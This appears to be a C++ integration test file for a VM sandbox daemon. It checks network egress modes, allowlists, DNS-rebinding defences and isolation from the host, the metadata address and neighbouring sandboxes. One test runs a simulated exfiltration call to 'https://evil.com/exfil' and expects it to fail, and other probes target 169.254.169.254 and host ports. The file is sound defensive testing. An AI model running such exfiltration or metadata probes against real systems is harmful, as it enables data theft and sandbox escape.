@@ -1,0 +1,544 @@
+// Egress end to end: the real hostd binary with real VMs, its network
+// section pointed at the test internet (testnet.hpp), clients run inside the
+// guests through the exec API. Three VMs for the whole suite (open, off,
+// allowlist); a route guard counts any sandbox packet routed anywhere but
+// the test internet. Needs root and the guest images.
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <poll.h>
+#include <signal.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <atomic>
+#include <cstdlib>
+#include <fstream>
+#include <sstream>
+#include <thread>
+
+#include <google/protobuf/struct.pb.h>
+#include <google/protobuf/util/json_util.h>
+#include <gtest/gtest.h>
+
+#include "actors/net/bridge.hpp"
+#include "messages/api.pb.h"
+#include "tests/hostd/hostd_process.hpp"
+#include "tests/hostd/http_client.hpp"
+#include "tests/net/testnet.hpp"
+
+namespace vesicle::net {
+namespace {
+
+using testing::HostdOptions;
+using testing::HostdProcess;
+using testing::HttpClient;
+using testing::HttpResponse;
+
+constexpr const char* kInternetPrefix = "vw";
+constexpr const char* kBridgePrefix = "vh";
+constexpr uint8_t kBlock = 227; // 10.227.0.0/16, routing table 1227 (net_bench uses 225)
+
+std::filesystem::path images_dir() {
+  if (const char* dir = std::getenv("VESICLE_IMAGES_DIR")) return dir;
+  return VESICLE_DEFAULT_IMAGES_DIR;
+}
+
+bool contains(const std::string& text, const std::string& part) {
+  return text.find(part) != std::string::npos;
+}
+
+// A TCP listener on every host address (a "host service" a sandbox must
+// never reach), counting connections.
+class HostListener {
+public:
+  HostListener() {
+    fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    int one = 1;
+    ::setsockopt(fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
+    sockaddr_in address{};
+    address.sin_family = AF_INET;
+    if (::bind(fd_, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0 ||
+        ::listen(fd_, 16) != 0)
+      throw std::runtime_error("host listener: bind/listen failed");
+    socklen_t size = sizeof address;
+    ::getsockname(fd_, reinterpret_cast<sockaddr*>(&address), &size);
+    port_ = ntohs(address.sin_port);
+    thread_ = std::thread([this] {
+      while (!stop_) {
+        pollfd p{fd_, POLLIN, 0};
+        if (::poll(&p, 1, 100) <= 0) continue;
+        int client = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
+        if (client < 0) continue;
+        ++accepted_;
+        (void)!::write(client, "host service\n", 13);
+        ::close(client);
+      }
+    });
+  }
+  ~HostListener() {
+    stop_ = true;
+    thread_.join();
+    ::close(fd_);
+  }
+  unsigned short port() const { return port_; }
+  int accepted() const { return accepted_; }
+
+private:
+  int fd_ = -1;
+  unsigned short port_ = 0;
+  std::atomic<bool> stop_{false};
+  std::atomic<int> accepted_{0};
+  std::thread thread_;
+};
+
+// Helpers defined once in each guest's REPL: each returns "ok ..." or
+// "fail <exception>: ...", and never waits long (refusals are immediate).
+constexpr const char* kGuestHelpers = R"PY(
+import socket, ssl, urllib.request, time
+def http(url, host=None, timeout=5):
+    try:
+        req = urllib.request.Request(url, headers={"Host": host} if host else {})
+        return "ok " + urllib.request.urlopen(req, timeout=timeout).read().decode(errors="replace")
+    except Exception as e:
+        return "fail %s: %s" % (type(e).__name__, e)
+def tcp(ip, port, timeout=3):
+    try:
+        with socket.create_connection((ip, port), timeout=timeout) as s:
+            s.settimeout(timeout)
+            return "ok " + s.recv(200).decode(errors="replace")
+    except Exception as e:
+        return "fail %s: %s" % (type(e).__name__, e)
+def resolve(name):
+    try:
+        return "ok " + ",".join(sorted({a[4][0] for a in socket.getaddrinfo(name, 80, socket.AF_INET)}))
+    except Exception as e:
+        return "fail %s: %s" % (type(e).__name__, e)
+def tls(ip, sni, timeout=5):
+    ctx = ssl.create_default_context(cafile="/root/ca.pem")
+    try:
+        with socket.create_connection((ip, 443), timeout=timeout) as s:
+            with ctx.wrap_socket(s, server_hostname=sni) as t:
+                t.sendall(("GET / HTTP/1.0\r\nHost: %s\r\n\r\n" % sni).encode())
+                data = b""
+                while True:
+                    chunk = t.recv(4096)
+                    if not chunk: break
+                    data += chunk
+                return "ok " + data.decode(errors="replace")
+    except Exception as e:
+        return "fail %s: %s" % (type(e).__name__, e)
+def udp(ip, port, timeout=2):
+    try:
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(timeout)
+        s.sendto(b"ping", (ip, port)); data = s.recv(100); s.close()
+        return "ok " + data.decode(errors="replace")
+    except Exception as e:
+        return "fail %s: %s" % (type(e).__name__, e)
+print("helpers ready")
+)PY";
+
+class HostdEgress : public ::testing::Test {
+protected:
+  static inline std::unique_ptr<testnet::TestInternet> internet;
+  static inline std::unique_ptr<testnet::RouteGuard> guard;
+  static inline std::unique_ptr<HostdProcess> hostd;
+  static inline std::unique_ptr<HostListener> listener;
+  static inline std::string setup_error;
+  static inline std::string open_id, off_id, allow_id;
+
+  static BridgeConfig bridge_config() {
+    BridgeConfig config;
+    config.prefix = kBridgePrefix;
+    config.transit = Cidr{Ipv4{uint32_t{10} << 24 | uint32_t{kBlock} << 16}, 16};
+    config.route_table = 1000 + kBlock;
+    config.rule_priority = 7000 + 2u * kBlock;
+    return config;
+  }
+
+  static void SetUpTestSuite() {
+    if (geteuid() != 0) {
+      setup_error = "these tests make network namespaces: run them as root";
+      return;
+    }
+    if (!std::filesystem::exists(images_dir() / "rootfs.ext4")) {
+      setup_error = "no guest images in " + images_dir().string() +
+                    " (build them with images/build.sh or set VESICLE_IMAGES_DIR)";
+      return;
+    }
+    (void)testnet::TestInternet::reclaim(kInternetPrefix);
+    auto started = testnet::TestInternet::start(kInternetPrefix);
+    if (!started) {
+      setup_error = started.error().message();
+      return;
+    }
+    internet = std::move(*started);
+    auto installed =
+        testnet::RouteGuard::install(kInternetPrefix, kBridgePrefix, internet->uplink());
+    if (!installed) {
+      setup_error = installed.error().message();
+      return;
+    }
+    guard = std::move(*installed);
+    listener = std::make_unique<HostListener>();
+
+    const auto bridge = bridge_config();
+    std::ostringstream network;
+    network << R"({"uplink": ")" << internet->uplink() << R"(", "uplink_gateway": ")"
+            << testnet::kWanGateway.str() << R"(", "upstream_resolver": ")"
+            << testnet::kResolverIp.str() << R"(", "denied_networks": ["10.0.0.0/8", )"
+            << R"("172.16.0.0/12", "192.168.0.0/16", "100.64.0.0/10", ")"
+            << testnet::kLanNetwork.str() << R"("], "prefix": ")" << kBridgePrefix
+            << R"(", "transit": ")" << bridge.transit.str() << R"(", "route_table": )"
+            << bridge.route_table << R"(, "rule_priority": )" << bridge.rule_priority
+            << R"(, "max_slots": 4, "max_pooled": 2})";
+    HostdOptions options;
+    options.binary = HOSTD_BINARY;
+    options.images_dir = images_dir();
+    options.max_sandboxes = 3;
+    options.memory_mib = 384;
+    options.network_json = network.str();
+    try {
+      hostd = std::make_unique<HostdProcess>(options);
+    } catch (const std::exception& e) {
+      setup_error = std::string("starting hostd: ") + e.what();
+      return;
+    }
+    HttpClient http("127.0.0.1", hostd->port(), hostd->key());
+    auto create = [&](const std::string& body, std::string& id) {
+      auto created = http.request("POST", "/v1/sandboxes", body);
+      if (created.status != 201) {
+        setup_error = "create " + body + ": " + std::to_string(created.status) + " " +
+                      created.body + "\n" + hostd->log();
+        return;
+      }
+      api::Sandbox sandbox;
+      (void)google::protobuf::util::JsonStringToMessage(created.body, &sandbox);
+      id = sandbox.id();
+    };
+    create("{}", open_id);
+    if (setup_error.empty()) create(R"({"egress": false})", off_id);
+    if (setup_error.empty())
+      create(R"({"egress_allow": ["allowed.test", "rebind.example.test"]})", allow_id);
+    if (!setup_error.empty()) return;
+    std::ifstream cert(internet->ca_certificate());
+    std::stringstream pem;
+    pem << cert.rdbuf();
+    for (const auto* id : {&open_id, &off_id, &allow_id}) {
+      auto put =
+          http.request("PUT", "/v1/sandboxes/" + *id + "/files?path=/root/ca.pem", pem.str());
+      auto out = exec_in(http, *id, kGuestHelpers);
+      if (put.status != 204 && put.status != 200) setup_error = "upload ca.pem: " + put.body;
+      if (!contains(out, "helpers ready")) setup_error = "guest helpers: " + out;
+    }
+  }
+
+  static void TearDownTestSuite() {
+    if (hostd) {
+      HttpClient http("127.0.0.1", hostd->port(), hostd->key());
+      for (const auto* id : {&open_id, &off_id, &allow_id}) {
+        if (id->empty()) continue;
+        auto gone = http.request("DELETE", "/v1/sandboxes/" + *id);
+        EXPECT_EQ(gone.status, 204u) << gone.body;
+      }
+      EXPECT_EQ(hostd->stop(), 0) << hostd->log();
+      EXPECT_TRUE(hostd->qemu_pids().empty());
+      EXPECT_TRUE(hostd->leftover_files().empty());
+      hostd.reset();
+    }
+    // hostd's bridge removes its namespaces, host link, rules and tables
+    // when it stops.
+    auto left = BridgeManager::find_leftovers(bridge_config());
+    EXPECT_TRUE(left && left->empty()) << (left ? left->describe() : left.error().message());
+    (void)BridgeManager::reclaim_leftovers(bridge_config());
+    if (listener) {
+      EXPECT_EQ(listener->accepted(), 0) << "a sandbox reached a host service";
+      listener.reset();
+    }
+    if (guard) {
+      auto stray = guard->stray_packets();
+      EXPECT_TRUE(stray) << stray.error().message();
+      if (stray) {
+        EXPECT_EQ(*stray, 0) << "sandbox packets were routed past the uplink";
+      }
+    }
+    guard.reset();
+    internet.reset();
+  }
+
+  void SetUp() override {
+    if (!setup_error.empty()) {
+      if (geteuid() != 0 || contains(setup_error, "no guest images")) GTEST_SKIP() << setup_error;
+      FAIL() << setup_error;
+    }
+  }
+  void TearDown() override {
+    if (HasFailure() && hostd) std::fprintf(stderr, "hostd's log:\n%s\n", hostd->log().c_str());
+  }
+
+  // Runs Python in a sandbox and returns its stdout (and any error event).
+  static std::string exec_in(HttpClient& http, const std::string& id, const std::string& code,
+                             const char* language = "python") {
+    google::protobuf::Struct request;
+    (*request.mutable_fields())["code"].set_string_value(code);
+    (*request.mutable_fields())["language"].set_string_value(language);
+    (*request.mutable_fields())["timeout_s"].set_number_value(60);
+    std::string body;
+    (void)google::protobuf::util::MessageToJsonString(request, &body);
+    auto response = http.request("POST", "/v1/sandboxes/" + id + "/exec", body);
+    if (response.status != 200) return "exec failed: " + response.body;
+    std::string out;
+    std::istringstream lines(response.body);
+    for (std::string line; std::getline(lines, line);) {
+      google::protobuf::Struct event;
+      if (!google::protobuf::util::JsonStringToMessage(line, &event).ok()) continue;
+      const auto& fields = event.fields();
+      auto type = fields.count("type") ? fields.at("type").string_value() : "";
+      if ((type == "stdout" || type == "stderr" || type == "error") && fields.count("data"))
+        out += fields.at("data").string_value();
+      if (type == "error" && fields.count("traceback"))
+        out += fields.at("traceback").string_value();
+    }
+    return out;
+  }
+  std::string run(const std::string& id, const std::string& code) {
+    HttpClient http("127.0.0.1", hostd->port(), hostd->key());
+    return exec_in(http, id, code);
+  }
+  HttpClient client() { return HttpClient("127.0.0.1", hostd->port(), hostd->key()); }
+  // "p(f(a)); p(g(b))" for every probe, one line each, in one exec.
+  std::vector<std::string> probes(const std::string& id, const std::vector<std::string>& calls) {
+    std::string code;
+    for (const auto& call : calls)
+      code += "print(" + call + ".replace('\\n', ' ')[:300])\n";
+    std::istringstream out(run(id, code));
+    std::vector<std::string> lines;
+    for (std::string line; std::getline(out, line);)
+      lines.push_back(line);
+    EXPECT_EQ(lines.size(), calls.size()) << out.str();
+    lines.resize(calls.size());
+    return lines;
+  }
+};
+
+TEST_F(HostdEgress, SandboxJsonReportsEgress) {
+  auto http = client();
+  for (auto [id, mode] :
+       {std::pair{open_id, "open"}, std::pair{off_id, "off"}, std::pair{allow_id, "allowlist"}}) {
+    auto got = http.request("GET", "/v1/sandboxes/" + id);
+    ASSERT_EQ(got.status, 200u);
+    api::Sandbox sandbox;
+    ASSERT_TRUE(google::protobuf::util::JsonStringToMessage(got.body, &sandbox).ok());
+    EXPECT_EQ(sandbox.egress_mode(), mode) << got.body;
+    if (std::string(mode) == "allowlist") {
+      ASSERT_EQ(sandbox.egress_allow_size(), 2);
+      EXPECT_EQ(sandbox.egress_allow(0), "allowed.test");
+    }
+  }
+}
+
+TEST_F(HostdEgress, BadAllowlistsAreRefusedBeforeAnyVm) {
+  auto http = client();
+  for (const char* body :
+       {R"({"egress_allow": ["198.18.1.10"]})", R"({"egress_allow": ["*"]})",
+        R"({"egress_allow": ["*.test"]})", R"({"egress_allow": ["http://allowed.test/"]})",
+        R"({"egress_allow": ["a*.example.test"]})",
+        R"({"egress": false, "egress_allow": ["allowed.test"]})"}) {
+    auto created = http.request("POST", "/v1/sandboxes", body);
+    EXPECT_EQ(created.status, 400u) << body << " -> " << created.body;
+    EXPECT_TRUE(contains(created.body, "egress")) << created.body;
+  }
+}
+
+TEST_F(HostdEgress, OpenReachesTheHttpServerByName) {
+  auto r = probes(open_id, {"resolve('allowed.test')", "http('http://allowed.test/')",
+                            "tcp('198.18.1.20', 7000)", "udp('198.18.1.10', 7001)"});
+  EXPECT_EQ(r[0], "ok 198.18.1.10");
+  EXPECT_TRUE(contains(r[1], "ok hello from allowed host=allowed.test")) << r[1];
+  EXPECT_TRUE(contains(r[2], "ok banner denied")) << r[2];
+  EXPECT_TRUE(contains(r[3], "ok ping")) << r[3];
+  EXPECT_GE(internet->hits("allowed"), 1);
+}
+
+TEST_F(HostdEgress, OffFailsDnsAndTcpButFilesWork) {
+  auto r = probes(off_id,
+                  {"resolve('allowed.test')", "tcp('198.18.1.10', 80)", "tcp('198.18.1.20', 7000)",
+                   "udp('198.18.1.53', 53)", "http('http://198.18.1.10/')"});
+  for (const auto& line : r)
+    EXPECT_TRUE(contains(line, "fail")) << line;
+  auto http = client();
+  const std::string data("name,age\nAlice,30\nBob,45", 24);
+  auto put = http.request("PUT", "/v1/sandboxes/" + off_id + "/files?path=/data/roster.csv", data);
+  EXPECT_TRUE(put.status == 200 || put.status == 204) << put.body;
+  auto got = http.request("GET", "/v1/sandboxes/" + off_id + "/files?path=/data/roster.csv");
+  EXPECT_EQ(got.status, 200u);
+  EXPECT_EQ(got.body, data);
+}
+
+// The example of the seeds (an exfiltration attempt with egress off), as
+// written there but for the URL.
+TEST_F(HostdEgress, SeedsExfiltrationExampleWithEgressOff) {
+  auto http = client();
+  auto put = http.request("PUT", "/v1/sandboxes/" + off_id + "/files?path=/data/roster.csv",
+                          "name,age\nAlice,30\nBob,45");
+  ASSERT_TRUE(put.status == 200 || put.status == 204) << put.body;
+  auto out = run(off_id, R"PY(
+# Try to exfiltrate - this will fail
+import urllib.request
+try:
+    urllib.request.urlopen('https://evil.com/exfil', timeout=1)
+except Exception as e:
+    print('egress blocked:', type(e).__name__)
+# But local compute still works
+import csv
+with open('/data/roster.csv') as f:
+    rows = list(csv.DictReader(f))
+print('rows:', len(rows))
+)PY");
+  EXPECT_EQ(out, "egress blocked: URLError\nrows: 2\n");
+}
+
+TEST_F(HostdEgress, AllowlistReachesListedNamesOverHttpAndTls) {
+  auto r = probes(allow_id, {"resolve('allowed.test')", "http('http://allowed.test/')",
+                             "tls('allowed.test', 'allowed.test')"});
+  EXPECT_EQ(r[0], "ok 198.18.1.10");
+  EXPECT_TRUE(contains(r[1], "ok hello from allowed host=allowed.test")) << r[1];
+  EXPECT_TRUE(contains(r[2], "hello from allowed host=allowed.test")) << r[2];
+}
+
+TEST_F(HostdEgress, AllowlistRefusesWhatIsNotListed) {
+  const int denied_before = internet->hits("denied");
+  auto r =
+      probes(allow_id, {
+                           "resolve('denied.test')",
+                           "http('http://198.18.1.10/')",                 // IP literal
+                           "http('http://198.18.1.20/', 'allowed.test')", // Host to a denied IP
+                           "tls('198.18.1.10', 'denied.test')",           // SNI mismatch
+                           "http('http://198.18.1.10/', 'denied.test')",
+                           "tcp('198.18.1.20', 7000)",
+                           "udp('198.18.1.10', 7001)",
+                       });
+  for (const auto& line : r)
+    EXPECT_TRUE(contains(line, "fail")) << line;
+  EXPECT_EQ(internet->hits("denied"), denied_before);
+}
+
+// rebind.example.test answers allowed.test's address first, then the
+// metadata address: the second answer never reaches the guest, and the
+// metadata address is unreachable whatever name is used.
+TEST_F(HostdEgress, AllowlistRefusesDnsRebinding) {
+  auto r = probes(allow_id, {"resolve('rebind.example.test')",
+                             "(time.sleep(1.5), resolve('rebind.example.test'))[1]",
+                             "http('http://169.254.169.254/', 'rebind.example.test')",
+                             "tcp('169.254.169.254', 80)"});
+  EXPECT_EQ(r[0], "ok 198.18.1.10");
+  EXPECT_FALSE(contains(r[1], "169.254")) << r[1];
+  EXPECT_TRUE(contains(r[2], "fail")) << r[2];
+  EXPECT_TRUE(contains(r[3], "fail")) << r[3];
+  EXPECT_EQ(internet->hits("metadata"), 0);
+}
+
+// The host's own services (a listener on every host address), hostd's API,
+// the gateway and the metadata address, from every mode.
+TEST_F(HostdEgress, NoModeReachesTheHostOrTheMetadataAddress) {
+  const auto bridge = bridge_config();
+  const std::string host_port = std::to_string(listener->port());
+  const std::string api_port = std::to_string(hostd->port());
+  const std::string transit_host = Ipv4{bridge.transit.network.value + 1}.str();
+  const std::string transit_egress = Ipv4{bridge.transit.network.value + 2}.str();
+  std::vector<std::string> calls;
+  for (const auto& port : {host_port, api_port}) {
+    for (const auto& ip :
+         {testnet::kWanHost.str(), transit_host, transit_egress, std::string("172.16.0.1")})
+      calls.push_back("tcp('" + ip + "', " + port + ")");
+  }
+  calls.push_back("http('http://169.254.169.254/')");
+  calls.push_back("http('http://198.18.2.10/')"); // a denied host-side network
+  for (const auto& id : {open_id, off_id, allow_id}) {
+    auto r = probes(id, calls);
+    for (size_t i = 0; i < r.size(); ++i)
+      EXPECT_TRUE(contains(r[i], "fail")) << id << ": " << calls[i] << " -> " << r[i];
+  }
+  EXPECT_EQ(listener->accepted(), 0);
+  EXPECT_EQ(internet->hits("metadata"), 0);
+  EXPECT_EQ(internet->hits("lan"), 0);
+}
+
+// Every guest has the same address; outside its slot a sandbox is only its
+// slot's transit address, which no sandbox may reach.
+TEST_F(HostdEgress, SandboxesCannotReachEachOther) {
+  auto listening = run(allow_id, R"PY(
+import socket, threading
+server = socket.socket(); server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+server.bind(("0.0.0.0", 8080)); server.listen(8)
+def serve():
+    while True:
+        c, _ = server.accept(); c.sendall(b"neighbour\n"); c.close()
+threading.Thread(target=serve, daemon=True).start()
+print(tcp("127.0.0.1", 8080))
+)PY");
+  ASSERT_TRUE(contains(listening, "ok neighbour")) << listening;
+  const auto bridge = bridge_config();
+  std::vector<std::string> calls;
+  for (uint32_t slot = 0; slot < 4; ++slot)
+    calls.push_back("tcp('" + Ipv4{bridge.transit.network.value + (slot + 1) * 4 + 2}.str() +
+                    "', 8080)");
+  for (const auto& id : {open_id, off_id}) {
+    auto r = probes(id, calls);
+    for (size_t i = 0; i < r.size(); ++i)
+      EXPECT_TRUE(contains(r[i], "fail")) << id << ": " << calls[i] << " -> " << r[i];
+  }
+}
+
+// A hostd killed with SIGKILL leaves its slots' namespaces, host link, rules
+// and tables; the next hostd with the same network section removes them
+// before it serves, and leaves nothing itself when it stops.
+TEST(HostdNetworkRestart, LeftoversOfAKilledHostdAreReclaimedAtStart) {
+  if (geteuid() != 0) GTEST_SKIP() << "needs root (network namespaces)";
+  if (!std::filesystem::exists(images_dir() / "rootfs.ext4"))
+    GTEST_SKIP() << "no guest images in " << images_dir();
+  BridgeConfig bridge;
+  bridge.prefix = "vk";
+  bridge.transit = Cidr{Ipv4{uint32_t{10} << 24 | uint32_t{226} << 16}, 16};
+  bridge.route_table = 1226;
+  bridge.rule_priority = 7452;
+  (void)BridgeManager::reclaim_leftovers(bridge);
+  HostdOptions options;
+  options.binary = HOSTD_BINARY;
+  options.images_dir = images_dir();
+  options.max_sandboxes = 1;
+  options.memory_mib = 384;
+  // No uplink: only egress off, which still gets a slot (and a NIC).
+  options.network_json = R"({"prefix": "vk", "transit": ")" + bridge.transit.str() +
+                         R"(", "route_table": 1226, "rule_priority": 7452})";
+  {
+    HostdProcess first(options);
+    HttpClient http("127.0.0.1", first.port(), first.key());
+    auto created = http.request("POST", "/v1/sandboxes", "{}");
+    ASSERT_EQ(created.status, 201u) << created.body << first.log();
+    EXPECT_TRUE(contains(created.body, R"("egress_mode":"off")")) << created.body;
+    auto open = http.request("POST", "/v1/sandboxes", R"({"egress": true})");
+    EXPECT_EQ(open.status, 400u) << open.body;
+    EXPECT_TRUE(contains(open.body, "network.uplink")) << open.body;
+    ::kill(first.pid(), SIGKILL);
+    first.stop();
+    auto left = BridgeManager::find_leftovers(bridge);
+    ASSERT_TRUE(left);
+    EXPECT_FALSE(left->netns.empty()) << "a killed hostd should have left its slot";
+  }
+  {
+    HostdProcess second(options);
+    EXPECT_TRUE(contains(second.log(), "removed network leftovers")) << second.log();
+    // hostd handles SIGTERM once it serves (main.cpp sets the handler up
+    // just after printing its address): wait for one answer first.
+    HttpClient http("127.0.0.1", second.port(), second.key());
+    EXPECT_EQ(http.request("GET", "/v1/healthz").status, 200u);
+    EXPECT_EQ(second.stop(), 0) << second.log();
+  }
+  auto left = BridgeManager::find_leftovers(bridge);
+  ASSERT_TRUE(left);
+  EXPECT_TRUE(left->empty()) << left->describe();
+  (void)BridgeManager::reclaim_leftovers(bridge);
+}
+
+} // namespace
+} // namespace vesicle::net
